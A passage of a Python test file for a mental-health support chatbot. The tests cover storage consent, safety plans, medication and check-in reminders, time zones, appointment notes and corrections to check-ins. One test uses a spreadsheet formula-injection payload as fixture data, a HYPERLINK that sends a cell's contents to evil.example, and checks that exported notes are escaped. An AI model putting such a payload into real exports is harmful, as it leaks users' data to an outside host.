        text="I no longer require the evening reminder; kindly remove it"), {})
    assert [r["local_time"] for r in action_store.reminders.list("web:anna")] == ["07:00"]


def test_a_plan_made_before_the_storage_question_is_asked_about_and_kept_after_a_late_yes(
        action_store: Store) -> None:
    steps = {"sp_warning_signs": "not sleeping", "sp_coping": "music", "sp_distractions": "the park",
             "sp_people": "my sister", "sp_professionals": "my GP", "sp_environment": "meds locked away"}
    dispatcher = CollectingDispatcher()
    ActionSaveSafetyPlan().run(dispatcher, make_tracker(slots=steps), {})
    said = dispatcher.messages[0]
    assert "asked me not to" not in said["text"] and "OK" in said["text"]
    assert [b["payload"] for b in said["buttons"]] == ["/give_consent", "/withdraw_consent"]
    assert action_store.plans.get("web:anna", "safety") is None  # nothing stored before the yes
    asked = [{"event": "bot", "text": said["text"], "data": {"buttons": said["buttons"]}}]
    dispatcher = CollectingDispatcher()
    ActionSaveConsent().run(dispatcher, make_tracker(slots=steps, intent="give_consent", events=asked), {})
    assert action_store.plans.get("web:anna", "safety")["warning_signs"] == "not sleeping"
    assert any("saved" in (m.get("text") or "") for m in dispatcher.messages)


def test_a_plan_after_a_no_to_storage_says_so_and_stores_nothing(action_store: Store) -> None:
    dispatcher = CollectingDispatcher()
    ActionSaveSafetyPlan().run(dispatcher, make_tracker(slots={"consent": False, "sp_coping": "music"}), {})
    assert "asked me not to store" in dispatcher.messages[0]["text"]
    assert action_store.plans.get("web:anna", "safety") is None


def test_one_reminder_of_a_kind_with_two_of_that_kind_is_asked_about_not_all_removed(action_store: Store) -> None:
    from actions.reminders import ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "medication", "08:00", "UTC")
    action_store.reminders.add("web:anna", "medication", "20:00", "UTC")
    action_store.reminders.add("web:anna", "checkin", "21:00", "UTC")
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots={"consent": True}, intent="stop_reminders",
                                                   text="stop the medication reminder"), {})
    assert responses(dispatcher) == ["utter_reminder_which_stop"]
    assert len(action_store.reminders.list("web:anna")) == 3
    ActionReminders().run(CollectingDispatcher(), make_tracker(slots={"consent": True}, intent="stop_reminders",
                                                               text="stop the 8pm medication reminder"), {})
    assert sorted(r["local_time"] for r in action_store.reminders.list("web:anna")) == ["08:00", "21:00"]
    ActionReminders().run(CollectingDispatcher(), make_tracker(slots={"consent": True}, intent="stop_reminders",
                                                               text="cancel the check-in reminder"), {})
    assert [r["local_time"] for r in action_store.reminders.list("web:anna")] == ["08:00"]


def test_check_ins_kept_after_consent_was_withdrawn_are_still_shown_to_their_owner(action_store: Store) -> None:
    from actions.progress import ActionShowProgress
    from bot.store import CheckinValues

    action_store.people.set_consent("web:anna", True)
    action_store.checkins.save("web:anna", CheckinValues(mood=4, anxiety=6, sleep_hours=7, medication="yes",
                                                         coping_used=None, note=None), "run-1")
    action_store.people.set_consent("web:anna", False)
    dispatcher = CollectingDispatcher()
    ActionShowProgress().run(dispatcher, make_tracker(slots={"consent": False}), {})
    assert "mood" in dispatcher.messages[0]["text"].lower() and "utter_progress_needs_checkins" not in responses(
        dispatcher)


def test_no_check_ins_after_a_no_to_storage_says_why(action_store: Store) -> None:
    from actions.progress import ActionShowProgress

    dispatcher = CollectingDispatcher()
    ActionShowProgress().run(dispatcher, make_tracker(slots={"consent": False}), {})
    assert responses(dispatcher) == ["utter_progress_not_storing"]


def test_a_time_corrected_right_after_a_reminder_was_set_changes_that_reminder(action_store: Store) -> None:
    from actions.reminders import ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "medication", "08:00", "UTC")
    set_before = [{"event": "user", "text": "remind me to take my meds at 8"},
                  {"event": "action", "name": "action_reminders"}, {"event": "action", "name": "action_listen"},
                  {"event": "user", "text": "sorry, I mean 9 in the morning, not 8"}]
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots={"consent": True, "last_reminder_time": "medication@08:00"},
                                                   intent="nlu_fallback", text="sorry, I mean 9 in the morning, not 8",
                                                   events=set_before), {})
    assert responses(dispatcher) == ["utter_reminder_changed"]
    assert [r["local_time"] for r in action_store.reminders.list("web:anna")] == ["09:00"]


@pytest.mark.parametrize("value", ["8", "3", "7/10"])
def test_a_number_alone_is_no_answer_at_a_free_text_step(value: str) -> None:
    from actions.common import form_reply

    dispatcher = CollectingDispatcher()
    kept = form_reply("rp_warning_signs", value, ["rp_warning_signs", "rp_triggers"], dispatcher, skippable=True,
                      free_text=True)
    assert kept == {"rp_warning_signs": None} and responses(dispatcher) == ["utter_help_rp_warning_signs"]


@pytest.mark.parametrize("value", ["988", "116 123", "0800 123 4567"])
def test_a_phone_number_is_an_answer_at_a_free_text_step(value: str) -> None:
    from actions.common import form_reply

    dispatcher = CollectingDispatcher()
    assert form_reply("sp_professionals", value, ["sp_people", "sp_professionals"], dispatcher, skippable=True,
                      free_text=True) is None
    assert responses(dispatcher) == []


def test_a_request_to_note_that_carries_its_own_question_notes_it(action_store: Store) -> None:
    from actions.appointments import ActionNoteForAppointment

    action_store.people.set_consent("web:anna", True)
    text = "Can you note a question for his care coordinator, whether he could have the injection instead"
    dispatcher = CollectingDispatcher()
    ActionNoteForAppointment().run(dispatcher, make_tracker(slots={"consent": True}, intent="note_for_appointment",
                                                            text=text), {})
    assert responses(dispatcher) == ["utter_appointment_noted"]
    assert action_store.notes.list("web:anna") == [text]


@pytest.mark.parametrize(("text", "noted"), [
    ("also the tablets make my mouth dry, note that for my appointment", "the tablets make my mouth dry"),
    ("add to my doctor questions: can I drive on this medication", "can I drive on this medication"),
])
def test_what_to_note_said_before_or_after_the_request_is_noted(action_store: Store, text: str, noted: str) -> None:
    from actions.appointments import ActionNoteForAppointment

    action_store.people.set_consent("web:anna", True)
    dispatcher = CollectingDispatcher()
    ActionNoteForAppointment().run(dispatcher, make_tracker(slots={"consent": True}, intent="note_for_appointment",
                                                            text=text), {})
    assert responses(dispatcher) == ["utter_appointment_noted"]
    assert action_store.notes.list("web:anna") == [noted]


def test_a_request_to_note_that_says_what_notes_what_follows(action_store: Store) -> None:
    from actions.appointments import ActionNoteForAppointment

    action_store.people.set_consent("web:anna", True)
    text = "can you add a note for my next appointment: ask about feeling more anxious on sertraline"
    dispatcher = CollectingDispatcher()
    ActionNoteForAppointment().run(dispatcher, make_tracker(slots={"consent": True}, intent="note_for_appointment",
                                                            text=text), {})
    assert responses(dispatcher) == ["utter_appointment_noted"]
    assert action_store.notes.list("web:anna") == ["ask about feeling more anxious on sertraline"]


def test_note_it_after_agreeing_to_storage_notes_the_question_asked_before(action_store: Store) -> None:
    from actions.appointments import ActionNoteForAppointment

    action_store.people.set_consent("web:anna", True)
    asked = {"event": "user", "text": "should i up my dose of prozac, still feeling low",
             "parse_data": {"intent": {"name": "ask_medication", "confidence": 1.0}}}
    consent = {"event": "user", "text": "/give_consent", "parse_data": {"intent": {"name": "give_consent"}}}
    dispatcher = CollectingDispatcher()
    ActionNoteForAppointment().run(dispatcher, make_tracker(slots={"consent": True}, intent="note_for_appointment",
                                                            text="note it", events=[asked, consent]), {})
    assert responses(dispatcher) == ["utter_appointment_noted"]
    assert action_store.notes.list("web:anna") == ["should i up my dose of prozac, still feeling low"]


@pytest.mark.parametrize(("before", "intent", "noted"), [
    ("I had a rough week with my mood", "share_feeling", ["I had a rough week with my mood"]),
    ("/start_checkin", "start_checkin", []),  # a button: nothing to note
    ("show my safety plan", "show_safety_plan", []),  # a command: nothing to note
])
def test_note_that_notes_what_was_just_told(action_store: Store, before: str, intent: str, noted: list[str]) -> None:
    from actions.appointments import ActionNoteForAppointment

    action_store.people.set_consent("web:anna", True)
    told = {"event": "user", "text": before, "parse_data": {"intent": {"name": intent, "confidence": 0.9}}}
    asks = {"event": "user", "text": "can you note that for my appointment",
            "parse_data": {"intent": {"name": "note_for_appointment", "confidence": 0.9}}}
    dispatcher = CollectingDispatcher()
    ActionNoteForAppointment().run(dispatcher, make_tracker(slots={"consent": True}, intent="note_for_appointment",
                                                            text=asks["text"], events=[told, asks]), {})
    assert responses(dispatcher) == (["utter_appointment_noted"] if noted else ["utter_appointment_nothing_to_note"])
    assert action_store.notes.list("web:anna") == noted


def test_a_city_said_with_a_reminder_request_is_the_reminders_time_zone(action_store: Store) -> None:
    from actions.reminders import TIMEZONE_SLOT, ActionReminders

    dispatcher = CollectingDispatcher()
    events = ActionReminders().run(dispatcher, make_tracker(slots={"consent": True}, intent="set_reminder",
                                                            text="remind me to take meds at 9am my time, im in sydney"),
                                   {})
    assert [(r["local_time"], r["timezone"]) for r in action_store.reminders.list("web:anna")] \
        == [("09:00", "Australia/Sydney")]
    assert any(e.get("name") == TIMEZONE_SLOT and e.get("value") == "Australia/Sydney" for e in events)
    assert "utter_reminder_timezone_check" not in responses(dispatcher)
    # "make it 8pm my time" with no zone known: changed, and the zone it used is checked with the person
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(sender="web:ben", slots={"consent": True}, intent="set_reminder",
                                                   text="remind me to check in at 7pm"), {})
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(sender="web:ben", slots={"consent": True},
                                                   intent="change_reminder", text="make it 8pm my time"), {})
    assert responses(dispatcher) == ["utter_reminder_changed", "utter_reminder_timezone_check"]


def test_a_reminder_takes_the_time_zone_of_the_conversations_country_when_it_has_one(action_store: Store) -> None:
    """Red team rt16: with the country GB, "remind me to check in at 8pm" was set at 20:00 UTC."""
    from actions.reminders import ActionReminders

    for sender, country, zone in (("web:gb", "GB", "Europe/London"), ("web:us", "US", "UTC")):
        dispatcher = CollectingDispatcher()
        ActionReminders().run(dispatcher, make_tracker(sender=sender, slots={"consent": True, "country": country},
                                                       intent="set_reminder", text="remind me to check in at 8pm"), {})
        assert [(r["local_time"], r["timezone"]) for r in action_store.reminders.list(sender)] == [("20:00", zone)]
        # a country of several zones keeps the clinic's default, checked with the person
        assert ("utter_reminder_timezone_check" in responses(dispatcher)) == (country == "US")


def test_naming_a_city_moves_the_reminders_to_its_time_zone(action_store: Store) -> None:
    from actions.reminders import TIMEZONE_SLOT, ActionPlaceTimezone, ActionReminders

    ActionReminders().run(CollectingDispatcher(), make_tracker(slots={"consent": True}, intent="set_reminder",
                                                               text="remind me to check in at 8:30am"), {})
    dispatcher = CollectingDispatcher()
    events = ActionPlaceTimezone().run(dispatcher, make_tracker(slots={"consent": True}, intent="set_country",
                                                                text="I'm in Toronto"), {})
    assert responses(dispatcher) == ["utter_reminder_timezone_set"]
    assert any(e.get("name") == TIMEZONE_SLOT and e.get("value") == "America/Toronto" for e in events)
    assert [r["timezone"] for r in action_store.reminders.list("web:anna")] == ["America/Toronto"]
    dispatcher = CollectingDispatcher()
    assert ActionPlaceTimezone().run(dispatcher, make_tracker(intent="set_country", text="I'm in Canada"), {}) == []


def test_the_question_noted_is_the_one_the_medication_answer_followed() -> None:
    from actions.appointments import last_question

    asked = {"intent": {"name": "ask_medication"}}
    events = [{"event": "user", "text": "should i stop my lithium", "parse_data": asked},
              {"event": "bot", "text": "...", "metadata": {"utter_action": "utter_medication_question"}},
              {"event": "user", "text": "shud i skip tonights one", "parse_data": {"intent": {"name": "nlu_fallback"}}},
              {"event": "bot", "text": "...", "metadata": {"utter_action": "utter_medication_question"}},
              {"event": "user", "text": "/note_for_appointment", "parse_data": {"intent": {"name": "affirm"}}}]
    assert last_question(make_tracker(events=events)) == "shud i skip tonights one"


def test_right_after_a_reminder_a_place_sets_the_zone_and_cancel_that_removes_it(action_store: Store) -> None:
    from actions.reminders import LAST_REMINDER_SLOT, ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "medication", "22:00", "UTC")
    action_store.reminders.add("web:anna", "coping", "18:00", "UTC")
    slots = {"consent": True, LAST_REMINDER_SLOT: "medication@22:00"}
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots=slots, intent="nlu_fallback", text="London",
                                                   events=_after("action_reminders")), {})
    assert responses(dispatcher) == ["utter_reminder_timezone_set"]
    assert {r["timezone"] for r in action_store.reminders.list("web:anna")} == {"Europe/London"}
    dispatcher = CollectingDispatcher()  # "change my reminder" later, with two: which one? (not the last on a guess)
    ActionReminders().run(dispatcher, make_tracker(slots=slots, intent="change_reminder",
                                                   text="change my reminder to 11pm", events=_after("utter_greet")), {})
    assert responses(dispatcher) == ["utter_reminder_which"]
    dispatcher = CollectingDispatcher()  # right after one was set: that one
    ActionReminders().run(dispatcher, make_tracker(slots=slots, intent="change_reminder", text="change my reminder "
                                                   "to 11pm", events=_after("action_reminders")), {})
    assert responses(dispatcher) == ["utter_reminder_changed"]
    action_store.reminders.change("web:anna", next(r["id"] for r in action_store.reminders.list("web:anna")
                                                   if r["kind"] == "medication"), "22:00", "Europe/London")
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots=slots, intent="nlu_fallback", text="cancel that",
                                                   events=_after("action_reminders")), {})
    assert [r["kind"] for r in action_store.reminders.list("web:anna")] == ["coping"]


def test_the_one_off_one_is_the_one_off(action_store: Store) -> None:
    import datetime as dt

    from actions.reminders import ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "medication", "22:00", "UTC")
    action_store.reminders.add("web:anna", "medication", None, "UTC",
                               once_at=dt.datetime.utcnow().replace(second=0, microsecond=0) + dt.timedelta(hours=2))
    ActionReminders().run(CollectingDispatcher(), make_tracker(slots={"consent": True}, intent="stop_reminders",
                                                               text="cancel the one-off one"), {})
    assert [(r["local_time"], r["once_at"]) for r in action_store.reminders.list("web:anna")] == [("22:00", None)]


@pytest.mark.parametrize(("text", "days", "response"), [
    ("remind me to take my meds at 11:59pm tonight", 0, "utter_reminder_set_once"),
    ("remind me tomorrow at 9am to take my pills", 1, "utter_reminder_set_tomorrow"),
])
def test_a_reminder_for_tonight_or_tomorrow_is_set_once(action_store: Store, text: str, days: int,
                                                         response: str) -> None:
    import datetime as dt

    from actions.reminders import ActionReminders

    action_store.people.set_consent("web:anna", True)
    slots = {"consent": True, "reminder_timezone": "UTC"}
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots=slots, intent="set_reminder", text=text), {})
    [kept] = action_store.reminders.list("web:anna")
    assert kept["once_at"] is not None  # once, not every day
    today = dt.datetime.utcnow().date()
    if days == 1:
        assert responses(dispatcher) == [response]
        assert (kept["once_at"].date() - today).days == 1 and kept["once_at"].strftime("%H:%M") == "09:00"
    else:  # 23:59 tonight, or tomorrow if the test runs in that last minute
        assert responses(dispatcher)[0] in (response, "utter_reminder_set_tomorrow")
        assert kept["once_at"].strftime("%H:%M") == "23:59"


@pytest.mark.parametrize(("text", "at", "part"), [
    ("can you remind me to check in every evening", "19:00", "the evening"),
    ("remind me to take my tablets before bed", "22:00", "bedtime"),
    ("nudge me to do my breathing in the mornings", "09:00", "the morning"),
])
def test_a_reminder_asked_for_a_part_of_the_day_gets_a_time_said_and_changeable(
        action_store: Store, text: str, at: str, part: str) -> None:
    from actions.reminders import ActionReminders

    action_store.people.set_consent("web:anna", True)
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots={"consent": True, "reminder_timezone": "UTC"},
                                                   intent="set_reminder", text=text), {})
    [kept] = action_store.reminders.list("web:anna")
    assert (str(kept["local_time"])[:5], kept["once_at"]) == (at, None)
    assert responses(dispatcher) == ["utter_reminder_set", "utter_reminder_time_picked"]
    assert dispatcher.messages[-1]["part_of_day"] == part


def test_a_part_of_the_day_answers_what_time(action_store: Store) -> None:
    from actions.reminders import ActionReminders

    action_store.people.set_consent("web:anna", True)
    asked = [{"event": "user", "text": "remind me about my meds"}, {"event": "action", "name": "action_reminders"},
             {"event": "action", "name": "action_listen"}, {"event": "user", "text": "in the evening please"}]
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(
        slots={"consent": True, "reminder_timezone": "UTC", "reminder_asked_kind": "medication"},
        intent="inform", text="in the evening please", events=asked), {})
    assert [(r["kind"], str(r["local_time"])[:5]) for r in action_store.reminders.list("web:anna")] == [
        ("medication", "19:00")]


def test_a_part_of_the_day_waits_with_its_reminder_for_the_storage_answer(action_store: Store) -> None:
    import json

    from actions.reminders import ActionReminders, save_pending_reminder

    dispatcher = CollectingDispatcher()
    events = ActionReminders().run(dispatcher, make_tracker(slots={"reminder_timezone": "UTC"}, intent="set_reminder",
                                                            text="remind me to check in at bedtime"), {})
    assert action_store.reminders.list("web:anna") == []
    pending = next(e["value"] for e in events if e.get("name") == "pending_reminder")
    assert json.loads(pending)["request"]["local_time"] == "22:00"
    action_store.people.set_consent("web:anna", True)
    after = CollectingDispatcher()
    save_pending_reminder(after, make_tracker(slots={"consent": True, "reminder_timezone": "UTC",
                                                     "pending_reminder": pending}))
    assert [str(r["local_time"])[:5] for r in action_store.reminders.list("web:anna")] == ["22:00"]
    assert responses(after)[-1] == "utter_reminder_time_picked"


@pytest.mark.parametrize(("text", "at"), [
    ("change my breathing one to every evening", "19:00"),
    ("can you move the coping reminder to before bed", "22:00"),
])
def test_a_reminder_changed_to_a_part_of_the_day_moves_to_the_time_picked_for_it(action_store: Store, text: str,
                                                                                at: str) -> None:
    from actions.reminders import ActionReminders

    action_store.people.set_consent("web:anna", True)
    action_store.reminders.add("web:anna", "coping", "09:00", "UTC")
    action_store.reminders.add("web:anna", "checkin", "20:00", "UTC")
    dispatcher = CollectingDispatcher()
    ActionReminders().run(dispatcher, make_tracker(slots={"consent": True, "reminder_timezone": "UTC"},
                                                   intent="change_reminder", text=text), {})
    assert sorted((r["kind"], str(r["local_time"])[:5]) for r in action_store.reminders.list("web:anna")) == [
        ("checkin", "20:00"), ("coping", at)]
    assert responses(dispatcher) == ["utter_reminder_changed", "utter_reminder_time_picked"]


def test_an_exported_note_a_spreadsheet_would_run_as_a_formula_is_kept_as_text() -> None:
    import csv
    import io

    note = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = list(csv.DictReader(io.StringIO(checkins_csv({"checkins": [{"mood": 4, "note": note},
                                                                       {"mood": 6, "note": "-5 mins of walking"},
                                                                       {"mood": 7, "note": "a good day"}]}))))
    assert [r["note"] for r in rows] == ["'" + note, "'-5 mins of walking", "a good day"]
    assert rows[0]["mood"] == "4"


def test_a_part_of_the_day_said_while_the_reminder_waits_for_the_storage_answer_is_its_time(
        action_store: Store) -> None:
    import json

    from actions.reminders import ActionReminders, save_pending_reminder

    first = ActionReminders().run(CollectingDispatcher(), make_tracker(
        slots={"reminder_timezone": "UTC"}, intent="set_reminder", text="remind me about my meds"), {})
    pending = next(e["value"] for e in first if e.get("name") == "pending_reminder")
    asked = [{"event": "user", "text": "remind me about my meds"}, {"event": "action", "name": "action_reminders"},
             {"event": "action", "name": "action_listen"}, {"event": "user", "text": "at teatime"}]
    later = ActionReminders().run(CollectingDispatcher(), make_tracker(
        slots={"reminder_timezone": "UTC", "pending_reminder": pending}, intent="nlu_fallback", text="at teatime",
        events=asked), {})
    kept = json.loads(next(e["value"] for e in later if e.get("name") == "pending_reminder"))["request"]
    assert (kept["kind"], kept["local_time"], kept["picked"]) == ("medication", "19:00", "the evening")
    assert action_store.reminders.list("web:anna") == []  # still waiting for the answer
    action_store.people.set_consent("web:anna", True)
    answered = {"consent": True, "reminder_timezone": "UTC", "pending_reminder": json.dumps({"request": kept})}
    save_pending_reminder(CollectingDispatcher(), make_tracker(slots=answered))
    assert [(r["kind"], str(r["local_time"])[:5]) for r in action_store.reminders.list("web:anna")] == [
        ("medication", "19:00")]


@pytest.mark.parametrize(("text", "expected"), [
    ("what stage is my son in", "utter_stage_of_someone_else"),
    ("where is she in her recovery", "utter_stage_of_someone_else"),
    ("What stage would you say he is in?", "utter_stage_of_someone_else"),
    ("I meant what stage HE is in, I'm not the one who's ill", "utter_stage_of_someone_else"),
    ("what stage am I in", "utter_stage_unknown"),  # their own: not worked out yet
    ("what stage do you think im in", "utter_stage_unknown"),
])
def test_a_question_about_someone_elses_stage_is_not_answered_as_the_writers_own(text: str, expected: str) -> None:
    from actions.stage import ActionShowStage

    dispatcher = CollectingDispatcher()
    events = ActionShowStage().run(dispatcher, make_tracker(intent="ask_stage", text=text), {})
    assert responses(dispatcher) == [expected]
    assert not any(e.get("name") == "stage_pending" and e.get("value") for e in events)


@pytest.mark.parametrize(("said", "field", "value"), [
    ("oh wait my mood today was actually a 2, can u fix that", "mood", 2.0),
    ("sorry i got the sleep wrong, it was 5 hours not 7", "sleep_hours", 5.0),
])
def test_a_rating_corrected_right_after_the_check_in_was_saved_changes_it(action_store: Store, said: str,
                                                                         field: str, value: float) -> None:
    from actions.checkin import ActionCorrectCheckin
    from bot.store import CheckinValues

    action_store.checkins.save("web:anna", CheckinValues(mood=4, anxiety=5, sleep_hours=7, medication="yes"), "r1")
    dispatcher = CollectingDispatcher()
    ActionCorrectCheckin().run(dispatcher, make_tracker(text=said, slots={"consent": True}), {})
    assert "changed your" in dispatcher.messages[0]["text"] and f"{value:g}" in dispatcher.messages[0]["text"]
    assert action_store.checkins.recent("web:anna", 1)[-1][field] == value
    assert action_store.checkins.recent("web:bo", 1) == []


def test_a_correction_with_no_recent_check_in_changes_nothing_and_says_so(action_store: Store) -> None:
    from actions.checkin import ActionCorrectCheckin

    dispatcher = CollectingDispatcher()
    ActionCorrectCheckin().run(dispatcher, make_tracker(text="my mood was actually a 2", slots={"consent": True}), {})
    assert "can't find a check-in" in dispatcher.messages[0]["text"]


def test_a_correction_of_a_check_in_kept_for_the_storage_answer_changes_the_kept_one(action_store: Store) -> None:
    import json

    from actions.checkin import ActionCorrectCheckin

    kept = {"values": {"mood": 4.0, "anxiety": 5.0, "sleep_hours": 7.0, "medication": "yes"}, "run": "r1"}
    dispatcher = CollectingDispatcher()
    events = ActionCorrectCheckin().run(dispatcher, make_tracker(
        text="my mood was actually a 2", slots={"pending_checkin": json.dumps(kept)}), {})
    assert json.loads(events[0]["value"])["values"]["mood"] == 2.0 and "(it was 4)" in dispatcher.messages[0]["text"]
